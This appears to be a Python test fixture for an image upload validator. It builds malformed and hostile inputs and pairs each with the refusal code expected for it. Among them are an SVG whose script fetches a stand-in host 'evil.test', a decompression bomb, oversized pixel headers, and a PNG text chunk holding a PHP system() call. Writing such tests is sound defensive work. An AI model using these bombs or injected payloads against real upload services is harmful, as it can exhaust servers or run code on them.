"""Bodies that are no picture, or one that means harm, each with the code that refuses it. All made here."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from io import BytesIO
from random import Random

from PIL import Image

from tests.pictures.degrade import jpeg, png

MEGA = 1024 * 1024
GREY = Image.new("RGB", (64, 48), "#888888")
JPEG, PNG = jpeg(GREY), png(GREY)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>fetch("//evil.test")</script></svg>'


def webp(image: Image.Image = GREY, **more: object) -> bytes:
    """A WebP picture."""
    out = BytesIO()
    image.save(out, "WEBP", **more)
    return out.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, data: bytes, *, depth: int = 8, colour: int = 2, extra: bytes = b"") -> bytes:
    """A PNG whose header says what it likes."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose frame header says what it likes."""
    start = JPEG.index(b"\xff\xc0")
    return JPEG[: start + 5] + struct.pack(">HH", height, width) + JPEG[start + 9 :]


def webp_of(width: int, height: int, *, flags: int = 0) -> bytes:
    """A WebP whose canvas is what it likes."""
    data = bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", len(data)) + data + webp()[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def moving_gif() -> bytes:
    """Two pictures in one GIF."""
    out = BytesIO()
    GREY.save(out, "GIF", save_all=True, append_images=[Image.new("RGB", (64, 48), "#000000")])
    return out.getvalue()


def moving_webp() -> bytes:
    """Two pictures in one WebP."""
    return webp(save_all=True, append_images=[Image.new("RGB", (64, 48), "#000000")])


def tiff() -> bytes:
    """A TIFF."""
    out = BytesIO()
    GREY.save(out, "TIFF")
    return out.getvalue()


ZEROS = zlib.compress(b"\0" * (60 * MEGA), 9)
NOISE = Random(1).randbytes(3000)
"""A bomb in a box: 60 MB of nothing in 60 kB."""

REFUSED: tuple[tuple[str, bytes, str], ...] = (
    # Before anything is decoded: kinds.
    ("empty", b"", "picture-kind"),
    ("one byte", b"\xff", "picture-kind"),
    ("text", "IMEI 0010 …".encode(), "picture-kind"),
    ("text named as a picture", b"GIF is what I am", "picture-kind"),
    ("html", b"<!doctype html><html><body>hello</body></html>", "picture-kind"),
    ("svg", SVG, "picture-kind"),
    ("svg behind a declaration", b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- x -->' + SVG, "picture-kind"),
    ("svg with a bomb of entities", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aa">]>' + SVG, "picture-kind"),
    ("gif", moving_gif()[:40], "picture-kind"),
    ("moving gif", moving_gif(), "picture-kind"),
    ("moving webp", moving_webp(), "picture-kind"),
    ("heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "picture-kind"),
    ("avif", b"\0\0\0\x1cftypavif\0\0\0\0", "picture-kind"),
    ("video", b"\0\0\0\x20ftypisom\0\0\x02\0", "picture-kind"),
    ("tiff", tiff(), "picture-kind"),
    ("big-endian tiff", b"MM\0*\0\0\0\x08", "picture-kind"),
    ("bmp", b"BM" + struct.pack("<IHHI", 70, 0, 0, 54) + b"\0" * 56, "picture-kind"),
    ("ico", b"\0\0\x01\0\x01\0" + b"\0" * 16, "picture-kind"),
    ("psd", b"8BPS\0\x01" + b"\0" * 20, "picture-kind"),
    ("pdf", b"%PDF-1.7\n1 0 obj<<>>endobj", "picture-kind"),
    ("zip", b"PK\x03\x04" + b"\0" * 26, "picture-kind"),
    ("program", b"MZ\x90\0" + b"\0" * 60, "picture-kind"),
    ("eps", b"%!PS-Adobe-3.0 EPSF-3.0\n", "picture-kind"),
    ("random bytes", NOISE, "picture-kind"),
    # Before anything is decoded: sizes.
    ("over 10 MB", JPEG + b"\0" * (10 * MEGA), "picture-too-large"),
    ("png of 200 megapixels", png_of(20_000, 10_000, b"x"), "picture-too-many-pixels"),
    ("png of 2^62 pixels", png_of(2**31 - 1, 2**31 - 1, b"x"), "picture-too-many-pixels"),
    ("png, a band", png_of(1_000_000, 1, b"x"), "picture-too-many-pixels"),
    ("jpeg of 4 gigapixels", jpeg_of(65_535, 65_535), "picture-too-many-pixels"),
    ("webp of 250 megapixels", webp_of(16_000, 16_000), "picture-too-many-pixels"),
    ("webp that moves, by its flag", webp_of(64, 48, flags=2), "picture-kind"),
    ("png of no size", png_of(0, 0, b"x"), "picture-unreadable"),
    ("png, header alone", PNG[:8], "picture-unreadable"),
    ("png, cut in its header", PNG[:20], "picture-unreadable"),
    ("png whose first chunk is another", PNG[:8] + chunk(b"tEXt", b"a\0b") + PNG[8:], "picture-unreadable"),
    ("jpeg, header alone", JPEG[:3], "picture-unreadable"),
    ("jpeg without a frame", b"\xff\xd8\xff\xd9" + b"\0" * 64, "picture-unreadable"),
    ("jpeg of endless segments", b"\xff\xd8" + b"\xff\xe0\0\x02" * 100_000, "picture-unreadable"),
    ("jpeg of fill bytes", b"\xff\xd8" + b"\xff" * 100_000, "picture-unreadable"),
    ("jpeg whose segment points nowhere", b"\xff\xd8\xff\xe0\xff\xff" + b"\0" * 16, "picture-unreadable"),
    ("webp, header alone", webp()[:16], "picture-unreadable"),
    ("webp of an unknown chunk", b"RIFF\x20\0\0\0WEBPVP9 \x10\0\0\0" + b"\0" * 16, "picture-unreadable"),
)
"""What is refused by its first bytes."""

UNREADABLE: tuple[tuple[str, bytes], ...] = (
    ("png, truncated", png(Image.effect_noise((400, 300), 80))[:20_000]),
    ("png, damaged in its middle", PNG[:60] + b"\0\0\0\0" + PNG[64:]),
    ("png without data", png_of(64, 48, b"")),
    ("png of other data", png_of(64, 48, b"no zlib here")),
    ("png of too few rows", png_of(640, 480, zlib.compress(b"\0" * 100))),
    ("png with a text bomb", png_of(64, 48, zlib.compress(b"\0" * 9264), extra=chunk(b"zTXt", b"a\0\0" + ZEROS))),
    ("jpeg, truncated", jpeg(Image.effect_noise((400, 300), 80))[:9_000]),
    ("jpeg, no data", JPEG[: JPEG.index(b"\xff\xda") + 8]),
    ("webp, truncated", webp(Image.effect_noise((400, 300), 80).convert("RGB"))[:4_000]),
    ("webp, larger than its picture", webp_of(3_000, 3_000)),
    ("png that is a jpeg inside", PNG[:33] + JPEG),
)  # fmt: skip
"""What only decoding finds out; the child says so and lives on."""


def harmless() -> Iterator[tuple[str, bytes]]:
    """Pictures that can be read and hold no number; whatever hides in them has no effect."""
    yield "no number", JPEG
    yield "one pixel", png(Image.new("RGB", (1, 1)))
    yield "jpeg with a web page behind it", JPEG + b"<html><script>alert(1)</script>"
    yield "jpeg with a zip behind it", JPEG + b"PK\x03\x04" + b"\0" * 40
    yield (
        "png with a program in a text",
        png_of(64, 48, zlib.compress((b"\0" + b"\x88" * 192) * 48), extra=chunk(b"tEXt", b"c\0<?php system(1); ?>")),
    )
    yield "png of more data than it needs", png_of(64, 48, ZEROS)
    yield "png of 25 Mpx of nothing", png_of(5_000, 5_000, zlib.compress(b"\0" * (625 + 1) * 5_000), depth=1, colour=0)
    yield "png of 16 bits", png(Image.new("I;16", (64, 48), 30_000))
    yield "png that is transparent", png(Image.new("RGBA", (64, 48), (0, 0, 0, 0)))
    yield "png with a palette", png(GREY.convert("P"))
    yield "cmyk jpeg", _cmyk()
    yield "a colour profile that is none", png(GREY, icc_profile=b"\0" * 5_000)
    yield "lossless webp", webp(lossless=True)


def _cmyk() -> bytes:
    out = BytesIO()
    GREY.convert("CMYK").save(out, "JPEG")
    return out.getvalue()
